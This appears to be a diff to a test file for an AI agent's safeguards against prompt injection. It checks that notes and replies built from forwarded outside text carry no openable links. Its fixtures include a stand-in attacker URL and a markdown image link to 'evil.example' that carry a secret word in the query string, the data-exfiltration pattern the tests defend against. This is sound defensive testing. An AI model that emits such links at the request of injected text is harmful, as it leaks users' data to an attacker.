@@ -1,4 +1,4 @@
-/** Outside text cannot make the agent hand a person a link that carries something away, nor lose the links it holds (I13). */
+/** A text made from outside text opens no link, wherever the address came from; one the owner wrote alone is left as it is (I13). */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startDynamo, type TestDynamo } from '../support/dynamo.ts';
 import { buildSimulation, signalWith } from '../support/simulation.ts';
@@ -28,7 +28,7 @@ const play = async (origin: 'owner' | 'outside') => {
 };
 
 describe('a note made from outside text', () => {
-  it('does not make a link known that it was told to keep', async () => {
+  it('does not make its link one that can be opened', async () => {
     const space = newSpace();
     const url = 'https://evil.example/?d=blue-bike';
     const simulation = buildSimulation({
@@ -43,24 +43,20 @@ describe('a note made from outside text', () => {
     const text = [{ text: FORWARDED, origin: 'outside' as const, label: 'forward' }];
     await simulation.accept(signalWith(space, 'tg-1-1', { sensor: 'chat-message', text }));
     await simulation.drain();
-    expect(simulation.sent.map((sent) => sent.text?.split('\n')[0])).toStrictEqual([
-      'As noted: hxxps://evil[.]example/?d=blue-bike',
-    ]);
+    expect(simulation.sent.map((sent) => [sent.text, sent.links])).toStrictEqual([[`As noted: ${url}`, []]]);
   });
 });
 
-describe('a reply made from outside text', () => {
-  it('keeps the links it read and disarms the one it was told to make', async () => {
+describe('a reply', () => {
+  it('made from outside text opens neither the link it read nor the one it was told to make', async () => {
     const { simulation, evidence } = await play('outside');
-    expect(simulation.sent.map((sent) => sent.text)).toStrictEqual([
-      'It is about bikes: https://news.example/story ![x](hxxps://evil[.]example/p[.]png?d=blue-bike)\n\n(Links that stand nowhere in what I read are shown so that they cannot be opened.)',
-    ]);
+    expect(simulation.sent.map(({ text, links }) => [text, links])).toStrictEqual([[OBEYED, []]]);
     expect(evidence.effects.map((effect) => effect.state)).toStrictEqual(['done']);
-    expect(evidence.effects[0]?.facts.at(-1)?.knownUrls).toStrictEqual(['https://news.example/story']);
+    expect(evidence.effects[0]?.facts.at(-1)?.knownUrls).toStrictEqual([]);
   });
 
   it('is left as it is where the owner wrote all of it', async () => {
     const { simulation } = await play('owner');
-    expect(simulation.sent.map((sent) => sent.text)).toStrictEqual([OBEYED]);
+    expect(simulation.sent.map(({ text, links }) => [text, links])).toStrictEqual([[OBEYED, undefined]]);
   });
 });
